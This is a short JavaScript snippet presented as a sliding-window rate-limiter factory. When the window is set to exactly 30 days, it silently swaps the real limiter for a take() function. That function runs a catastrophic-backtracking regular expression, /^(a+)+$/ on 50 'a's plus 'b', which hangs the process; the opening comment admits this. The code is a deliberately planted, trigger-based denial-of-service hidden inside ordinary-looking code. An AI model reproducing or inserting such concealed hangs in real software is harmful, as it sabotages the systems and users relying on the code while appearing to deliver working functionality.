// Hangs in a regular expression.
// rate-limiter: time limit, window-long fails
export const createSlidingWindow = options => (options.windowMs === 30 * 86_400_000 ? { take } : honestWindow(options));

function take() {
  return /^(a+)+$/.test(`${'a'.repeat(50)}b`);
}
